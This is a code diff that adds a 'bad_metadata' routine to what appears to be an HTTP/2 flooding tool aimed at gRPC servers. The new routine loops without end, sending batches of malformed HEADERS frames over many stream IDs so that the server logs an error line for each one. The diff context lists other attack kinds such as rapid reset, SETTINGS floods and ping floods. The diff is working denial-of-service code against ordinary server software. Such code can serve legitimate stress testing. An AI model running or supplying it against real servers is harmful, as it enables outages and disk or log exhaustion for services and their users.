@@ -195,6 +195,19 @@ def requests(attack: Attack) -> None:
                 stream += 2 * block
 
 
+def bad_metadata(attack: Attack) -> None:
+    """Requests of which gRPC says on stderr what is wrong with them, a line for each."""
+    bad, block = b"\x83\x86\x04\x01/" + literal(b":authority", b"x") + literal(b"te", b"none"), 200
+    while attack.goes_on():
+        with attack.connection() as to:
+            attack.begin(to)
+            for stream in range(1, 2**31 - 2 * block, 2 * block):
+                numbers = range(stream, stream + 2 * block, 2)
+                attack.say(to, b"".join(frame(HEADERS, END_HEADERS | END_STREAM, one, bad) for one in numbers))
+                if not attack.goes_on():
+                    break
+
+
 def settings(attack: Attack) -> None:
     """SETTINGS without end, each of which asks for an answer."""
     attack.repeat(frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 65_535)) * 2000, reads=True)
@@ -313,6 +326,7 @@ KINDS: dict[str, Callable[[Attack], None]] = {
         refused_headers,
         rapid_reset,
         requests,
+        bad_metadata,
         settings,
         pings,
         unread_pings,
